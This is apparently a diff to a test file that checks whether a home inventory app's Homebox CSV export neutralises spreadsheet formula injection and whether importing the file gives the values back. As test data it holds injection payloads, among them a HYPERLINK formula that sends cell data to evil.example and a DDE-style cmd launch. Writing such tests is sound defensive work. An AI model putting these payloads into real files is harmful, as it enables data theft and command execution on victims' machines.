@@ -1,6 +1,7 @@
 // Moving the inventory in and out over HTTP: the JSON export (no file paths), the Homebox CSV
 // export and import (round trip into a fresh server gives the same devices), and a bad file.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { request } from 'undici';
 import { startTestServer, type TestServer } from '../harness/start-server.js';
 
@@ -159,6 +160,52 @@ describe('home inventory: export and Homebox import', () => {
       store.transaction = real;
     }
     expect(await count(b)).toBe(before);
+  });
+});
+
+describe('home inventory: the Homebox CSV export never carries a spreadsheet formula', () => {
+  let a: TestServer;
+  let b: TestServer;
+  beforeAll(async () => {
+    [a, b] = await Promise.all([startTestServer({ seed: 'household' }), startTestServer({ seed: 'household' })]);
+  });
+  afterAll(async () => {
+    await a.close();
+    await b.close();
+  });
+
+  // the payloads of the attack probe (issue 29, item 3), plus values that only look like them
+  const NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', "'quoted from the start", "''two quotes", 'Plain kettle'];
+
+  it('prefixes a quote to every cell a spreadsheet would read as a formula, and importing the file gives the same values back', async () => {
+    for (const name of NAMES) {
+      const r = await a.member.post('/api/home/devices', { name, brand: '=1+1', model: '-DW 5', notes: '@mention me', supportPhone: '+44 330 160 6600', specs: { Size: '=A1*2', Grade: "'A" } });
+      expect(r.status, JSON.stringify(r.body)).toBe(201);
+    }
+    const csv = await a.member.get('/api/home/export?format=homebox');
+    expect(csv.status).toBe(200);
+    const cells = (parseCsv(csv.text, { relax_column_count: true }) as string[][]).flat();
+    // nothing a spreadsheet would evaluate: every such cell opens with the quote that neutralises it
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?d="&A1,"Click")', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "''quoted from the start", "'''two quotes", 'Plain kettle', "'=1+1", "'-DW 5", "'+44 330 160 6600"]));
+
+    const imported = await importCsv(b, csv.text);
+    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
+    expect(imported.body).toEqual({ imported: NAMES.length, skipped: [] });
+    const list = (await b.member.get('/api/home/devices')).body.devices as Array<{ id: string; name: string }>;
+    expect(list.map((d) => d.name).sort()).toEqual([...NAMES].sort());
+    for (const { id } of list) {
+      const d = (await b.member.get(`/api/home/devices/${id}`)).body.device;
+      expect(d).toMatchObject({ brand: '=1+1', model: '-DW 5', notes: '@mention me', supportPhone: '+44 330 160 6600', specs: { Size: '=A1*2', Grade: "'A" } });
+    }
+  });
+
+  it('keeps a quote that opens a value in a file that came from Homebox itself', async () => {
+    await b.handle.deps.db('home_devices').delete();
+    const r = await importCsv(b, "HB.import_ref,HB.url,HB.name,HB.manufacturer\n,https://homebox.example/item/1,'Quoted name,'Acme\n");
+    expect(r.status, JSON.stringify(r.body)).toBe(200);
+    const [d] = (await b.member.get('/api/home/devices')).body.devices;
+    expect(d).toMatchObject({ name: "'Quoted name", brand: "'Acme" });
   });
 });
 
